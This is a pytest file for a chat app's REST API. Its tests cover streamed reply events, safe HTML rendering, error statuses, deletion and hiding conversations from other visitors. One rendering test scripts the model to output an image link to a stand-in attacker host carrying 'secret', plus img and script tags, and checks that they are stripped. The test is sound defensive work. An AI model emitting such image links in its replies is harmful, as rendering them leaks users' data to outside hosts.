"""The REST addresses: events as they stream, safe HTML beside them, statuses, strangers."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import httpx
import pytest
from fastapi import FastAPI, Request, Response

from madang.characters.types import Character
from madang.chat.access import Chat
from madang.chat.api import router
from madang.kernel.errors import ModelFailed
from madang.kernel.identity import Identity
from madang.kernel.ids import new_id
from madang.web import errors
from tests.fakes.models import FakeChat

Events = list[tuple[str, Any]]


@pytest.fixture
async def client(chat: Chat) -> AsyncIterator[httpx.AsyncClient]:
    """A client; the header `x-who` says which visitor asks."""
    app = FastAPI()

    @app.middleware("http")
    async def who(request: Request, go_on: Callable[[Request], Awaitable[Response]]) -> Response:
        request.state.identity = Identity("visitor", request.headers.get("x-who", "vis_one"))
        return await go_on(request)

    app.include_router(router(chat))
    errors.install(app)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://studio") as client:
        yield client


def parsed(body: str) -> Events:
    found: Events = []
    for block in body.strip().split("\n\n"):
        name, _, data = block.partition("\n")
        if name.startswith("event: "):
            found.append((name.removeprefix("event: "), json.loads(data.removeprefix("data: "))))
    return found


async def said(client: httpx.AsyncClient, conversation: str, message: str, query: str = "") -> Events:
    response = await client.post(f"/api/conversations/{conversation}/turns{query}", json={"message": message})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/event-stream")
    return parsed(response.text)


async def begun(client: httpx.AsyncClient, slug: str) -> str:
    response = await client.post(f"/api/characters/{slug}/conversations")
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


async def test_a_reply_streams_as_events(client: httpx.AsyncClient, shop: Character) -> None:
    conversation = await begun(client, shop.slug)
    events = await said(client, conversation, "How much does milmyeon cost?")
    assert [name for name, _ in events] == ["accepted", "found", "delta", "delta", "done"]
    assert events[0][1]["turn"]["message"] == "How much does milmyeon cost?"
    assert events[1][1]["citations"][0]["quote"] == "Milmyeon costs 9,000 won."
    assert events[-1][1]["reply"]["basis"] == "sources"
    assert events[-1][1]["finish"] == "stop"
    kept = (await client.get(f"/api/conversations/{conversation}")).json()
    assert kept["turns"][0]["replies"][0]["text"] == events[-1][1]["reply"]["text"]
    listed = (await client.get(f"/api/characters/{shop.slug}/conversations")).json()
    assert [one["id"] for one in listed] == [conversation]


async def test_the_first_words_begin_a_conversation(client: httpx.AsyncClient, shop: Character) -> None:
    first = f"/api/characters/{shop.slug}/turns"
    response = await client.post(first, json={"message": "When do you open?", "channel": "page"})
    events = parsed(response.text)
    assert events[0][0] == "accepted"
    assert events[-1][0] == "done"
    conversation = events[0][1]["turn"]["conversation_id"]
    kept = (await client.get(f"/api/conversations/{conversation}")).json()
    assert [turn["message"] for turn in kept["turns"]] == ["When do you open?"]
    assert kept["channel"] == "page"
    strange = await client.get(f"/api/conversations/{conversation}", headers={"x-who": "vis_two"})
    assert strange.status_code == 404


async def test_a_page_finds_what_it_sent_by_its_own_id(client: httpx.AsyncClient, shop: Character) -> None:
    first, turn = f"/api/characters/{shop.slug}/turns", new_id("trn")
    body = {"message": "When do you open?", "turn": turn}
    assert (await client.get(f"/api/turns/{turn}")).status_code == 404
    events = parsed((await client.post(first, json=body)).text)
    found = (await client.get(f"/api/turns/{turn}")).json()
    assert found["id"] == events[0][1]["turn"]["id"] == turn
    assert (await client.get(f"/api/turns/{turn}", headers={"x-who": "vis_two"})).status_code == 404
    assert (await client.post(first, json=body)).status_code == 409
    again = await client.post(f"/api/conversations/{found['conversation_id']}/turns", json=body)
    assert again.status_code == 409
    for wrong in ("", "trn_1", f"cnv_{turn[4:]}", f"{turn}a", f"{turn[:-1]}\0"):
        assert (await client.post(first, json=body | {"turn": wrong})).status_code == 422, wrong
    assert len((await client.get(f"/api/characters/{shop.slug}/conversations")).json()) == 1
    # it has ended: nothing is left to be followed
    assert (await client.get(f"/api/turns/{turn}/events")).status_code == 404


@pytest.mark.parametrize(("message", "status"), [("  ", 400), ("x" * 40_000, 422)])
async def test_refused_first_words_begin_nothing(
    client: httpx.AsyncClient, shop: Character, message: str, status: int
) -> None:
    response = await client.post(f"/api/characters/{shop.slug}/turns", json={"message": message})
    assert response.status_code == status, response.text
    assert (await client.get(f"/api/characters/{shop.slug}/conversations")).json() == []
    assert (await client.post("/api/characters/nobody/turns", json={"message": "Hi"})).status_code == 404


async def test_html_comes_at_once_and_is_whole_before_done(
    client: httpx.AsyncClient, shop: Character
) -> None:
    conversation = await begun(client, shop.slug)
    events = await said(client, conversation, "How much does milmyeon cost?", "?html=1")
    names = [name for name, _ in events]
    assert names[:4] == ["accepted", "found", "delta", "html"]
    assert names[-2:] == ["html", "done"]
    assert "<blockquote>" in events[-2][1]["html"]
    assert 'data-citation="1"' in events[-2][1]["html"]


async def test_a_picture_in_model_text_asks_for_nothing(
    client: httpx.AsyncClient, friend: Character, chat_model: FakeChat
) -> None:
    chat_model.script = (
        "Look ![x](http://evil.example/?q=secret) <img src=http://evil.example/y> <script>1</script>"
    )
    events = await said(client, await begun(client, friend.slug), "Show me.", "?html=1")
    rendered = [data["html"] for name, data in events if name == "html"]
    assert rendered
    assert not any(
        tag in text for text in rendered for tag in ("<img", "<script", '<a href="http://evil.example/y')
    )


async def test_a_failing_model_keeps_the_message_and_says_so(
    client: httpx.AsyncClient, friend: Character, chat_model: FakeChat
) -> None:
    chat_model.fail_after, chat_model.error = 2, ModelFailed("The model stopped in the middle of its reply.")
    conversation = await begun(client, friend.slug)
    events = await said(client, conversation, "Hello?!? Tell me of masks", "?html=1")
    name, data = events[-1]
    assert (name, data["code"]) == ("failed", "model_failed")
    assert data["message"] == "The model stopped in the middle of its reply."
    reply = (await client.get(f"/api/conversations/{conversation}")).json()["turns"][0]["replies"][0]
    assert (reply["state"], reply["text"]) == ("failed", "Hello there,")
    assert reply["error"] == "The model stopped in the middle of its reply."


async def test_refusals_have_their_status_and_one_sentence(
    client: httpx.AsyncClient, friend: Character
) -> None:
    conversation = await begun(client, friend.slug)
    turns = f"/api/conversations/{conversation}/turns"
    empty = await client.post(turns, json={"message": "  "})
    assert (empty.status_code, empty.json()["error"]["code"]) == (400, "bad_input")
    assert empty.json()["error"]["message"] == "Write a message first."
    assert (await client.post(turns, json={"message": "x" * 9000})).status_code == 413
    assert (await client.post(turns, json={})).status_code == 422
    korean = await client.post(turns, json={"message": ""}, headers={"accept-language": "ko"})
    assert korean.json()["error"]["message"] == "먼저 메시지를 써 주세요."
    for path in ("/api/conversations/cnv_no", "/api/turns/trn_no", "/api/characters/nobody/conversations"):
        assert (await client.get(path)).status_code == 404


async def test_a_stranger_finds_nothing(client: httpx.AsyncClient, friend: Character) -> None:
    conversation = await begun(client, friend.slug)
    turn = (await said(client, conversation, "Mine."))[0][1]["turn"]["id"]
    stranger = {"x-who": "vis_two"}
    requests = [
        ("GET", f"/api/conversations/{conversation}", None),
        ("DELETE", f"/api/conversations/{conversation}", None),
        ("POST", f"/api/conversations/{conversation}/turns", {"message": "Yours?"}),
        ("GET", f"/api/turns/{turn}", None),
        ("POST", f"/api/turns/{turn}/edit", {"message": "Yours?"}),
        ("POST", f"/api/turns/{turn}/regenerate", None),
        ("POST", f"/api/turns/{turn}/stop", None),
        ("POST", f"/api/turns/{turn}/show", {"version": 0}),
    ]
    for method, path, body in requests:
        response = await client.request(method, path, json=body, headers=stranger)
        assert (response.status_code, response.json()["error"]["code"]) == (404, "not_found"), path
    assert (await client.get(f"/api/characters/{friend.slug}/conversations", headers=stranger)).json() == []
    kept = (await client.get(f"/api/conversations/{conversation}")).json()
    assert [len(one["replies"]) for one in kept["turns"]] == [1]


async def test_a_conversation_can_be_deleted(client: httpx.AsyncClient, friend: Character) -> None:
    conversation = await begun(client, friend.slug)
    await said(client, conversation, "Forget this.")
    assert (await client.delete(f"/api/conversations/{conversation}")).status_code == 204
    assert (await client.get(f"/api/conversations/{conversation}")).status_code == 404


async def test_every_address_is_described(client: httpx.AsyncClient) -> None:
    document = (await client.get("/openapi.json")).json()
    for path, methods in document["paths"].items():
        for method, operation in methods.items():
            assert operation.get("description"), (method, path)
            if "_id}" in path or "{slug}" in path:
                assert "404" in operation["responses"], (method, path)
